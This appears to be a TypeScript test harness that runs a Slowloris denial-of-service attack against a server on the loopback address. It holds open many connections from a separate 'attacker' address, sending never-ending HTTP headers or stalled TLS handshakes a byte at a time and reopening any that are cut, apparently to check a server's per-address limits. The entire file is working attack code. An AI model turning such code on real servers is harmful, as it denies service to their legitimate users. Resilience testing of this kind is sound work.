// slowLoris.ts <url> <connections>: opens so many connections from one address, each of which sends a head that never ends, a byte now and
// then; over TLS half of them never end their handshake. One that is cut is opened again. Ends with its stdin.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

const [address = '', count = '1000'] = process.argv.slice(2);
const { protocol, port } = new URL(address);
const byteEveryMs = 1_000;
const host = '127.0.0.1';
/** The attacker's; a user has another. */
const localAddress = '127.0.0.2';
const againMs = 2_000;
let open = 0;
let cut = 0;

function attack(index: number): void {
  const isSecure = protocol === 'https:' && index % 2 === 0;
  const socket: Socket = isSecure
    ? connectTls({ socket: connect({ host, port: Number(port), localAddress }), rejectUnauthorized: false })
    : connect({ host, port: Number(port), localAddress });
  let timer: NodeJS.Timeout | undefined;
  socket.once(isSecure ? 'secureConnect' : 'connect', () => {
    open += 1;
    // the first bytes of a TLS record that promises more
    socket.write(
      protocol === 'https:' && !isSecure ? Buffer.from([22, 3, 1, 2, 0]) : 'GET /area HTTP/1.1\r\nx-slow: ',
    );
    timer = setInterval(
      () => socket.write(isSecure || protocol === 'http:' ? 'a' : Buffer.from([1])),
      byteEveryMs,
    );
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    if (timer) {
      open -= 1;
      cut += 1;
    }
    clearInterval(timer);
    setTimeout(attack, againMs * (0.5 + Math.random()), index);
  });
}

for (let index = 0; index < Number(count); index += 1) {
  attack(index);
  if (index % 20 === 19) await sleep(10);
}
console.log('attacking');
process.stdin.resume();
await once(process.stdin, 'end');
console.log(`attacked ${JSON.stringify({ open, cut })}`);
process.exit(0);
